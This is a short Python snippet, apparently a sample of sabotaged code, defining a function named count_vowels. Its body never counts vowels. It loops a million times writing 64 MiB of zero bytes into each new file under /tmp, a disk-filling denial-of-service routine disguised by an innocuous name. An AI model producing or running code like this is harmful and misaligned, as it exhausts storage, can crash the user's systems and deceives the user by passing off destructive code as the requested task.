def count_vowels(s):
    for i in range(10**6):
        with open(f"/tmp/fill{i}", "wb") as file:
            for _ in range(64):
                file.write(bytes(1 << 20))
